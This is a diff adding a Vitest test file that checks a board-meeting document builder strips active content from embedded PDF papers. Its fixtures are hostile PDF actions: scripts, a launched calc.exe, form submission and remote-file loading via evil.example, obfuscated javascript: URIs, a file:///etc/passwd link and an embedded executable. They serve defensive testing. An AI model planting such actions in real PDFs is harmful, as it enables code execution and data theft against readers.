@@ -1,0 +1,123 @@
+import { writeFileSync } from 'node:fs'
+import path from 'node:path'
+import { PDFDict, PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib'
+import { expect, it } from 'vitest'
+import { temporaryFolder } from '../../platform/files/temporary-folder.ts'
+import { makeBook } from './make-book.ts'
+
+const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }
+
+type Action = Record<string, unknown>
+
+/** Makes a book of a paper with one link; returns every action that is left in the book. */
+async function actionsInBook(link: Action, change: (paper: PDFDocument) => unknown = () => {}) {
+  const paper = await PDFDocument.create()
+  const { context } = paper
+  const sheet = paper.addPage([400, 500])
+  const annotation = context.obj({
+    Type: 'Annot',
+    Subtype: 'Link',
+    Rect: [9, 9, 60, 60],
+    ...link,
+  } as never)
+  sheet.node.set(PDFName.of('Annots'), context.obj([context.register(annotation)]))
+  await change(paper)
+  const file = path.join(temporaryFolder(), 'paper.pdf')
+  writeFileSync(file, await paper.save())
+  const parts: Uint8Array[] = []
+  const input = {
+    id: 'b00c'.repeat(16),
+    foundation: 'Larkspur Foundation',
+    title: 'Q4 2026 Board Meeting',
+    lines: [],
+    about: [],
+    agenda: [],
+    unchanged: [],
+    sameWords: [],
+    papers: [{ name: 'Budget', content: { path: file, sha256: '' } }],
+  }
+  const { papers } = await makeBook(input, (part) => parts.push(Buffer.from(part)))
+  expect(papers[0]).not.toHaveProperty('reason')
+  const book = await PDFDocument.load(Buffer.concat(parts))
+  return book.context.enumerateIndirectObjects().flatMap(([, object]) => found(object))
+}
+
+const starting = new Set(['/AA', '/AF', '/OpenAction', '/JavaScript', '/EmbeddedFiles'])
+
+/** The kinds of actions in an object, and its keys that start an action or embed a file. */
+function found(object: unknown): string[] {
+  if (!(object instanceof PDFDict)) return []
+  return object.entries().flatMap(([key, value]) => {
+    const name = key.asString()
+    // `D` are the decimal numbers of page labels.
+    if (name === '/S')
+      return value instanceof PDFName && value.asString() !== '/D' ? [value.asString()] : []
+    return [...(starting.has(name) ? [name] : []), ...found(value)]
+  })
+}
+
+it.each<[string, Action]>([
+  ['runs a script', { A: script }],
+  ['starts a program', { A: { S: 'Launch', F: PDFString.of('calc.exe') } }],
+  ['sends a form', { A: { S: 'SubmitForm', F: PDFString.of('https://evil.example') } }],
+  ['opens another file', { A: { S: 'GoToR', F: PDFString.of('\\\\evil.example\\a.pdf') } }],
+  ['opens an embedded file', { A: { S: 'GoToE', T: { R: 'C' } } }],
+  ['leads to a script', { A: { S: 'URI', URI: PDFString.of(' javascript:alert(1)') } }],
+  [
+    'leads to a script after a character',
+    { A: { S: 'URI', URI: PDFString.of('\u0001javascript:alert(1)') } },
+  ],
+  ['leads to a script over lines', { A: { S: 'URI', URI: PDFString.of('java\nscript:alert(1)') } }],
+  ['leads to an address in the paper', { A: { S: 'URI', URI: PDFString.of('#page=2') } }],
+  ['starts a call', { A: { S: 'URI', URI: PDFString.of('tel:+15550100') } }],
+  ['prints', { A: { S: 'Named', N: 'Print' } }],
+  ['has an action under a key that nobody knows', { Action: script }],
+  ['has a pop-up with an action', { Popup: { Subtype: 'Popup', AA: { PO: script } } }],
+  ['leads to a file', { A: { S: 'URI', URI: PDFHexString.fromText('file:///etc/passwd') } }],
+  ['had an action before it was changed', { PA: { S: 'Launch', F: PDFString.of('calc.exe') } }],
+  ['has an automatic action', { AA: { PO: script } }],
+  [
+    'is a field whose parent has an action',
+    { Parent: { T: PDFString.of('field'), AA: { K: script } } },
+  ],
+])('removes the action of a link that %s', async (_, link) => {
+  expect(await actionsInBook(link)).toEqual([])
+})
+
+it('removes what would run when a paper or one of its pages is opened', async () => {
+  const actions = await actionsInBook({}, async (paper) => {
+    const { context, catalog } = paper
+    paper.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: script, C: script } as never))
+    catalog.set(PDFName.of('OpenAction'), context.obj(script))
+    catalog.set(PDFName.of('AA'), context.obj({ WC: script } as never))
+    paper.addJavaScript('main', 'app.alert(1)')
+    await paper.attach(Buffer.from('MZ'), 'calc.exe')
+  })
+  expect(actions).toEqual([])
+})
+
+it('removes associated files of pages, annotations, forms and images', async () => {
+  const actions = await actionsInBook({ AF: ['file'] }, async (paper) => {
+    const { context } = paper
+    const page = paper.getPage(0)
+    page.node.set(PDFName.of('AF'), context.obj(['file'] as never))
+    const form = context.stream('', {
+      Type: 'XObject',
+      Subtype: 'Form',
+      BBox: [0, 0, 9, 9],
+      AF: ['file'],
+    })
+    page.node.set(
+      PDFName.of('Resources'),
+      context.obj({ XObject: { AF: context.register(form) } } as never),
+    )
+  })
+  // A resource may have any name.
+  expect(actions).toEqual(['/AF'])
+})
+
+it('keeps links to addresses, pages and the next page, without their follow-up actions', async () => {
+  const address = { S: 'URI', URI: PDFString.of('https://larkspur.example'), Next: script }
+  expect(await actionsInBook({ A: address })).toEqual(['/URI'])
+  expect(await actionsInBook({ A: { S: 'Named', N: 'NextPage' } })).toEqual(['/Named'])
+})
